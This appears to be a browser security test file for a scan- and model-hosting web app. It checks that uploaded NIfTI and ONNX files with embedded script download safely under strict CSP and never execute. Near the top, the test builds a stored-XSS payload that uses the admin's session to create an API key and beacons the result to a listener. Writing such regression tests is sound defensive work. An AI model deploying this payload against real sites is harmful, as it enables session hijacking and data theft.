import { createHash } from 'node:crypto';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { HOSTILE_QUERIES, scriptNifti, scriptOnnx } from '../test/stored-script';
import { launchChromium } from './browser';

/**
 * security (issue 11 §1): a clinician's NIfTI with <script> in its header extension and an
 * engineer's ONNX model with an HTML doc_string, opened by an admin in Chromium as a page, in a
 * fresh tab and in an iframe, under every query-string variant, run nothing: no title change,
 * no window marker, no request to a loopback listener, no API key created.
 */
const mark = `m${Date.now().toString(36)}`;

describe('security: stored content never runs as script (Debian Chromium)', () => {
  const baseURL = inject('baseURL');
  let browser: Browser;
  let admin: BrowserContext;
  let listener: Server;
  const hits: string[] = [];
  const blobs: { what: string; sha256: string }[] = [];

  beforeAll(async () => {
    listener = createServer((req, res) => {
      hits.push(`${req.method} ${req.url}`);
      res.writeHead(204, { 'cross-origin-resource-policy': 'cross-origin', 'access-control-allow-origin': '*' }).end();
    });
    await new Promise<void>((r) => listener.listen(0, '127.0.0.1', r));
    const port = (listener.address() as AddressInfo).port;
    // What the attack did: mark the page, call home, and create an API key with the admin's session.
    const script = `document.title='PWNED-${mark}';try{top.__pwned='${mark}'}catch(e){}
new Image().src='http://127.0.0.1:${port}/hit/${mark}';
fetch('/api/trpc/keys.create',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({name:'pwned-${mark}',actions:['run.read']})})
.then(function(r){return r.text()}).then(function(t){navigator.sendBeacon('http://127.0.0.1:${port}/leak/${mark}',t)});`;
    browser = await launchChromium();
    const upload = async (role: 'clinician' | 'engineer', route: string, name: string, bytes: Uint8Array) => {
      const ctx = await browser.newContext();
      try {
        await (await ctx.newPage()).goto(`${baseURL}/api/auth/demo?as=${role}&next=/`);
        const res = await ctx.request.post(`${baseURL}/api/uploads/${route}`, {
          headers: { origin: baseURL },
          multipart: { file: { name, mimeType: 'application/octet-stream', buffer: Buffer.from(bytes) } },
        });
        expect(res.status()).toBe(201);
      } finally {
        await ctx.close();
      }
      return createHash('sha256').update(bytes).digest('hex');
    };
    blobs.push({ what: 'NIfTI', sha256: await upload('clinician', 'scan', 'brain.nii', scriptNifti(script)) });
    blobs.push({ what: 'ONNX', sha256: await upload('engineer', 'model', 'segmenter.onnx', scriptOnnx(script)) });
    admin = await browser.newContext({ acceptDownloads: true });
    const page = await admin.newPage();
    await page.goto(`${baseURL}/settings`); // the embedded demo signs the visitor in as its admin
    await page.getByTestId('keys-card').waitFor();
    await page.close();
  });
  afterAll(async () => {
    await browser?.close();
    await new Promise((r) => listener?.close(r));
  });

  /** Navigates; true when Chromium rendered a document, false when it became a download. */
  const rendered = (page: Page, url: string) =>
    page.goto(url).then(
      () => true,
      (e: Error) => {
        if (/Download is starting/.test(e.message)) return false;
        throw e;
      },
    );

  async function expectNothingRan(page: Page) {
    expect(await page.title()).not.toContain('PWNED');
    expect(await page.evaluate(() => (window as { __pwned?: string }).__pwned ?? null)).toBeNull();
  }

  it('every query variant is served as an attachment of the recorded type, never sniffed, sandboxed', async () => {
    for (const { sha256 } of blobs) {
      for (const q of HOSTILE_QUERIES) {
        const res = await admin.request.get(`${baseURL}/api/blobs/${sha256}${q}`);
        expect(res.status(), q).toBe(200);
        const h = res.headers();
        expect(h['content-type'], q).toBe('application/octet-stream');
        expect(h['content-disposition'], q).toMatch(/^attachment; /);
        expect(h['x-content-type-options'], q).toBe('nosniff');
        expect(h['content-security-policy'], q).toBe("sandbox; default-src 'none'");
      }
    }
  });

  it('opened as a page or in a new tab, under every variant, nothing renders and nothing runs', async () => {
    for (const { what, sha256 } of blobs) {
      for (const q of HOSTILE_QUERIES) {
        const page = await admin.newPage();
        expect(await rendered(page, `${baseURL}/api/blobs/${sha256}${q}`), `${what} ${q}`).toBe(false);
        await expectNothingRan(page);
        await page.close();
      }
    }
  });

  it('framed by a studio page, under every variant, it downloads and nothing runs in the frame or the page', async () => {
    const page = await admin.newPage();
    await page.goto(`${baseURL}/settings`);
    await page.getByTestId('keys-card').waitFor();
    for (const { sha256 } of blobs) {
      for (const q of HOSTILE_QUERIES) {
        const download = page.waitForEvent('download', { timeout: 20_000 });
        await page.evaluate((src) => {
          const f = document.createElement('iframe');
          f.src = src;
          document.body.append(f);
        }, `/api/blobs/${sha256}${q}`);
        // The frame's response became a download (a frame that renders stored bytes as a page
        // never downloads, and this wait fails).
        await (await download).cancel();
        await expectNothingRan(page);
      }
    }
    await page.close();
  });

  it('pages carry a per-request nonce CSP with no inline script; pages, API and assets are never sniffed', async () => {
    const page1 = await admin.request.get(`${baseURL}/`);
    const page2 = await admin.request.get(`${baseURL}/runs`);
    const nonces = [page1, page2].map((res) => {
      const csp = res.headers()['content-security-policy'] ?? '';
      const script = csp.split(';').map((d) => d.trim()).find((d) => d.startsWith('script-src ')) ?? '';
      expect(script).toMatch(/^script-src 'self' 'nonce-[A-Za-z0-9+/=]{20,}' 'wasm-unsafe-eval'$/);
      for (const d of ["object-src 'none'", "base-uri 'self'", "frame-ancestors 'none'", "form-action 'self'"]) expect(csp).toContain(d);
      expect(res.headers()['x-content-type-options']).toBe('nosniff');
      expect(res.headers()['cross-origin-embedder-policy']).toBe('require-corp');
      return /'nonce-([^']+)'/.exec(script)![1];
    });
    expect(nonces[0]).not.toBe(nonces[1]);
    const html = await page1.text();
    expect(html).toContain(`nonce="${nonces[0]}"`);
    // Without a session: the sign-in page and the redirect to it carry the policy too.
    const signIn = await fetch(`${baseURL}/sign-in`);
    expect(signIn.status).toBe(200);
    expect(signIn.headers.get('content-security-policy')).toMatch(/script-src 'self' 'nonce-/);
    const redirect = await fetch(`${baseURL}/runs`, { redirect: 'manual' });
    expect([303, 307]).toContain(redirect.status);
    expect(redirect.headers.get('content-security-policy')).toMatch(/script-src 'self' 'nonce-/);
    const asset = /src="(\/_next\/static\/[^"]+\.js)"/.exec(html)![1];
    for (const url of ['/api/health', '/api/trpc/keys.list', asset, '/wasm/ort-wasm-simd-threaded.mjs', '/icon.svg', '/sign-in', '/runs']) {
      const res = await fetch(`${baseURL}${url}`, { redirect: 'manual' });
      expect(res.headers.get('x-content-type-options'), url).toBe('nosniff');
      await res.arrayBuffer();
    }
  });

  it('every page runs under its CSP without a violation', async () => {
    const page = await admin.newPage();
    const violations: string[] = [];
    page.on('console', (m) => {
      if (/Content Security Policy/i.test(m.text())) violations.push(`${page.url()}: ${m.text()}`);
    });
    page.on('pageerror', (e) => violations.push(`${page.url()}: ${e.message}`));
    for (const path of ['/', '/runs', '/scans', '/models', '/audit', '/costs', '/webhooks', '/settings']) {
      await page.goto(`${baseURL}${path}`);
      // The role badge appears once React has hydrated and account.me answered: scripts ran.
      await page.getByTestId('user-menu').getByTestId('role-badge').filter({ hasText: 'admin' }).waitFor();
    }
    await page.goto(`${baseURL}/sign-in`);
    await page.getByTestId('sign-in-email').waitFor();
    await page.close();
    expect(violations).toEqual([]);
  });

  it('afterwards: no API key was created and nothing called the listener', async () => {
    const res = await admin.request.get(`${baseURL}/api/trpc/keys.list`);
    expect(res.status()).toBe(200);
    const keys = ((await res.json()) as { result: { data: { name: string }[] } }).result.data;
    expect(Array.isArray(keys)).toBe(true);
    expect(keys.filter((k) => k.name.startsWith('pwned-'))).toEqual([]);
    expect(hits).toEqual([]);
  });
});
